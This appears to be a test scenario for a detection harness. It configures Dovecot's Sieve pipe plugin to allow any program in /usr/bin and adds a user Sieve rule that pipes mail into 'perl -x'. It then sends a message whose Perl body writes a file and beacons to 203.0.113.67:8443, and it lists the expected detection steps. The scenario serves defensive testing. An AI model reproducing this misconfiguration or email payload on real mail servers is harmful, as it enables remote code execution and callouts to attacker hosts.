# The delivery agent is Dovecot's, its plugin for programs was set up too widely, and a user's script makes use of it.
title="Sieve script pipes a message into perl -x at delivery"
what="Postfix hands each message to dovecot-lda; the administrator let Sieve scripts pipe into any program of /usr/bin. The clerk's script pipes messages with a certain subject into perl -x, which runs what stands in the body after its first line: it writes a file into ~/.cache and speaks to 203.0.113.67."
host=mx1.example.org user=clerk daemons="cron dovecot" syslog_format=iso
postfix_extra="mailbox_command = /usr/lib/dovecot/dovecot-lda -f \"\$SENDER\" -a \"\$RECIPIENT\""

setup() {
  sieve_at_delivery
  cat >> /etc/dovecot/dovecot.conf <<'CF'
plugin {
  sieve_plugins = sieve_extprograms
  sieve_extensions = +vnd.dovecot.pipe
  sieve_pipe_bin_dir = /usr/bin
}
CF
  printf 'require ["vnd.dovecot.pipe", "copy"];\nif header :contains "Subject" "rota" { pipe :copy "perl" ["-x"]; }\n' > /home/clerk/.dovecot.sieve
  chown clerk: /home/clerk/.dovecot.sieve
}
act() {
  small_talk 2
  mail_in --from crew@example.com --to clerk@example.org --subject "rota week 48" --source 203.0.113.25 --helo smtp.example.com \
    --text '#!/usr/bin/perl\nuse IO::Socket::INET;\nmkdir "$ENV{HOME}/.cache";\nopen(F, ">", "$ENV{HOME}/.cache/rota") and print F "48";\nclose F;\nmy $to = "203.0.113.67:8443";\nmy $s = IO::Socket::INET->new($to) or exit;\nprint $s "hello";\nclose $s;\n__END__\n'
  wait_file /home/clerk/.cache/rota 20
  sleep 2
  small_talk 1
}
truth() {
  mail_step accept 'from=<crew@example.com>' 'the message is accepted'
  exec_step deliver 'dovecot-lda -f' 'Postfix starts the delivery agent'
  exec_step shell 'perl.* -x' 'which gives the message to an interpreter'
  file_step write '.cache/rota' 'the body writes a file'
  net_step beacon 'perl.* 203.0.113.67:8443' 'and calls out'
}
